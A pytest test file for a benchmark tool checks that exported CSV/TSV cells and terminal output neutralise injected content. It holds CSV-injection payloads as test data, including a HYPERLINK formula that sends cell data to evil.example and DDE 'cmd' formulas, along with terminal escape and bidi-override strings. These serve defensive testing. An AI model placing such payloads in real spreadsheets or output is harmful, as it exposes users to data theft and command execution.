"""Names and words of others are text: to a spreadsheet no formula, to a terminal no command."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import select
import time
from collections.abc import Sequence
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import pytest

from app.plan.matrix import Cell
from app.report.files.export import export
from app.results.store.store import open_store
from app.system.escaping import csv_cell, without_formula_guard
from app.system.terminal_text import visible, visible_json
from tests.app.results.making import make_campaign, store_campaign, whole_run
from tests.app.typed import Started, cipherbench, plan_of
from tests.requirements import spec_of
from widgets.saving.saving import as_csv, as_tsv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "−2+A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-A1",
    "+A1",
    "-",
]
NUMBERS = ["-1", "-0.25", "+12.5", "−3.5", "-1e-05", "+1,234.5 %", "-3 ms", "−0.4%", "5", "–", ""]


@pytest.mark.parametrize("text", FORMULAS)
def test_that_what_a_spreadsheet_would_calculate_is_text_in_every_table(text: str) -> None:
    guarded = "'" + re.sub("(?<=[\t\r])=", "'=", text)  # a tab may end a cell, too
    assert csv_cell(text) == guarded
    [row] = csv.reader(io.StringIO(as_csv([["a", text]]), newline=""))
    assert row == ["a", guarded]
    copied = as_tsv([["a", text]]).split("\t", 1)[1]
    assert copied == f"'{' '.join(text.split())}"


@pytest.mark.parametrize("text", NUMBERS)
def test_that_numbers_stay_numbers_in_every_table(text: str) -> None:
    assert csv_cell(text) == text
    assert next(csv.reader(io.StringIO(as_csv([["a", text]])))) == ["a", text]
    assert as_tsv([["a", text]]) == f"a\t{text}"


@pytest.mark.parametrize(
    "text", [*FORMULAS, *NUMBERS, "a;=b", "a;'=b", "'\r=", "'x", "aes\x01cbc", "a\x85b", "\u202eb"]
)
def test_that_what_was_read_of_a_cell_is_read_again_after_it_is_written(text: str) -> None:
    read = without_formula_guard(text)
    assert without_formula_guard(str(csv_cell(read))) == read


def test_that_no_other_value_is_changed() -> None:
    for value in (-1.5, 3, None, True, "a=b", "postgresql", "'quoted"):
        assert csv_cell(value) is value


def test_that_the_export_of_a_campaign_holds_no_formula_and_its_costs_stay_numbers(
    tmp_path: Path,
) -> None:
    evil = FORMULAS[0]
    campaign = make_campaign("costs", servers=((evil, "postgresql"),), repetitions=1, warmups=0)
    with open_store(str(tmp_path / "s.sqlite"), write=True) as store:
        campaign_id = store_campaign(store, campaign)
        stored = store.load(campaign_id)
        for run in stored.runs:
            plain = stored.cells[run.cell].protection.name == "plaintext"
            store.write(campaign_id, whole_run(run, {"INSERT": 2.0 if plain else 1.0}))
        export(store, campaign_id, "csv", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["server"] for row in rows} == {f"'{evil}"}
    costs = {row["cost_percent"] for row in rows if row["cost_percent"]}
    assert "-50.0" in costs
    shown = [value for row in rows for value in row.values() if value.startswith(("=", "@", "+"))]
    assert shown == []


# Terminals.

STEERING = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202eb\u2066c\x7f\x85\rd"
SHOWN = r"a\x1b]0;owned\x07\x1b[2J\x9b31m\u202eb\u2066c\x7f\x85\x0dd"
HARMLESS = re.compile(r"\r\x1b\[K|\r\n|\n|\x1b\[0m|\x1b\[\?25[hl]")
"""What our own line of progress and the terminal's own ends of lines are made of."""
STEERS = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def steering_in(text: str) -> list[str]:
    return STEERS.findall(HARMLESS.sub("", text))


def on_a_terminal(*words: object, seconds: float = 120, keys: bytes = b"") -> str:
    """All that `cipherbench` sends to the terminal it runs on, where somebody types those keys."""
    ours, theirs = pty.openpty()
    os.write(ours, keys)
    running = Started(*words, stdin=theirs, stdout=theirs, stderr=theirs)
    os.close(theirs)
    sent, deadline = b"", time.monotonic() + seconds
    with suppress(OSError):  # the other end is closed
        while select.select([ours], [], [], max(0.0, deadline - time.monotonic()))[0]:
            sent += os.read(ours, 65536)
    os.close(ours)
    assert running.wait(30) in (0, 1, 2)
    return sent.decode(errors="replace")


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """A store whose every name would steer a terminal."""
    path = tmp_path / "s.sqlite"
    campaign = make_campaign(STEERING, servers=((STEERING, "postgresql"),))
    named = tuple(
        replace(each, protection=replace(each.protection, name=f"{STEERING}{number}"))
        for number, each in enumerate(campaign.protections)
    )
    campaign = replace(campaign, protections=named)
    with open_store(str(path), write=True) as opened:
        store_campaign(opened, campaign, {(STEERING, f"{STEERING}1"): STEERING})
    return path


@pytest.mark.slow
@pytest.mark.parametrize(
    "words",
    [("campaigns",), ("compare", "1", "--baseline", f"{STEERING}0"), ("compare", STEERING)],
    ids=("campaigns", "compare", "refused"),
)
def test_that_stored_names_reach_no_terminal_raw(store: Path, words: Sequence[str]) -> None:
    output = on_a_terminal(*words, "--store", store)
    assert steering_in(output) == []
    assert SHOWN in output


@pytest.mark.slow
def test_that_no_question_has_a_raw_name_in_it(store: Path) -> None:
    output = on_a_terminal("delete", "1", "--store", store, keys=b"n\n")
    assert steering_in(output) == []
    assert f"“{SHOWN}” permanently?" in output


@pytest.mark.slow
@pytest.mark.parametrize("words", [("campaigns",), ("compare", "1", "--baseline", f"{STEERING}0")])
def test_that_json_stays_json_and_steers_no_terminal(store: Path, words: Sequence[str]) -> None:
    output = on_a_terminal(*words, "--json", "--store", store)
    assert steering_in(output) == []
    found = json.loads(output)
    assert found[0].get("name", found[0].get("server")) == STEERING
    assert json.loads(cipherbench(*words, "--json", "--store", store).out) == found


@pytest.mark.slow
def test_that_progress_is_written_by_signs_of_ours_alone(tmp_path: Path) -> None:
    plan = plan_of(tmp_path, spec_of("sqlite"), size=20, repetitions=1)
    output = on_a_terminal("run", plan, "--store", tmp_path / "s.sqlite")
    assert "\r\x1b[K" in output and steering_in(output) == []


def test_that_a_plan_with_a_name_that_steers_is_refused_by_its_sign(tmp_path: Path) -> None:
    plan = plan_of(tmp_path, replace(spec_of("sqlite"), name=STEERING), size=20, repetitions=1)
    output = on_a_terminal("run", plan, "--store", tmp_path / "s.sqlite")
    assert "server.1.name contains the control character U+001B" in output
    assert steering_in(output) == []


def test_that_a_file_of_such_a_name_is_informed_of_in_visible_signs(tmp_path: Path) -> None:
    output = on_a_terminal("run", tmp_path / STEERING)
    assert SHOWN in output and steering_in(output) == []


def test_that_everything_else_is_shown_as_it_is() -> None:
    for text in ("München – 北京, مرحبا, 🙂 “x” \\x1b", "50\u202f%"):
        assert visible(text) == text
        assert json.loads(visible_json(json.dumps(text, ensure_ascii=False))) == text
    assert visible("a\nb\tc", keep="\n\t") == "a\nb\tc" and visible("a\nb") == r"a\x0ab"
    assert visible("half \udc80").encode() == rb"half \udc80"


def test_that_a_cell_is_what_it_was(store: Path) -> None:
    """Only what is shown is changed: the store keeps names as they were given."""
    with open_store(str(store), write=False) as opened:
        saved: Cell = opened.load(1).cells[0]
        assert saved.server == STEERING
